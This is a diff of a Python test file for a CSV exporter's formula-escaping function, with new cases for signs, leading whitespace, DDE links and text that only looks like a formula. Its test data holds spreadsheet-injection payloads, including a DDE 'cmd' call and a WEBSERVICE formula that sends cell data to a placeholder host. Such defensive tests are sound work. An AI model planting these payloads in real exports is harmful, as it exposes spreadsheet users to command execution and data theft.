@@ -34,15 +34,37 @@ def written(options: AnalysisOptions, input_columns, rows) -> tuple[list[list[st
         ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
         ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
         ("@SUM(A1)", "'@SUM(A1)"),
-        ("-2+3", "'-2+3"),
         ("-0.4019", "-0.4019"),
         ("+12", "+12"),
         ("plain text", "plain text"),
         ("", ""),
+        # a sign followed by a call anywhere in the cell, or a DDE link
+        ('+1+WEBSERVICE("http://x/"&A2)', '\'+1+WEBSERVICE("http://x/"&A2)'),
+        ("-2+3|x", "'-2+3|x"),
+        # what some importers trim before they look
+        (" =1+1", "' =1+1"),
+        ("\t=1+1", "'\t=1+1"),
+        # text that only starts like a formula stays as written: handles, bullets, arithmetic
+        ("@united thanks for nothing (again)", "@united thanks for nothing (again)"),
+        ("- fast delivery, + good price", "- fast delivery, + good price"),
+        ("-2+3", "-2+3"),
+        ("+1 for the staff", "+1 for the staff"),
     ],
 )
-def test_csv_cells_cannot_become_formulas(cell, safe):
+def test_csv_cells_cannot_become_formulas_that_call_something(cell, safe):
     assert safe_cell(cell) == safe
+
+
+def test_escaping_off_writes_every_cell_as_the_input_has_it():
+    # Given a task that asked for no formula escaping, and a row whose cells start like formulas
+    options = AnalysisOptions(csv_escape_formulas=False)
+    result = ItemResult(row=1, id="r1", label="negative", score=-0.5, confidence=0.8, engine="lexicon")
+    source = {"text": "@united =SUM(A1) lost my bag", "note": "=cmd|' /C calc'!A0"}
+    # When its results are written
+    (header, row), _ = written(options, ["text", "note"], [(result, source)])
+    # Then the input's cells are exactly as they came
+    cells = dict(zip(header, row, strict=True))
+    assert (cells["text"], cells["note"]) == (source["text"], source["note"])
 
 
 def test_the_input_columns_come_first_then_the_analysis_then_what_the_options_asked_for():
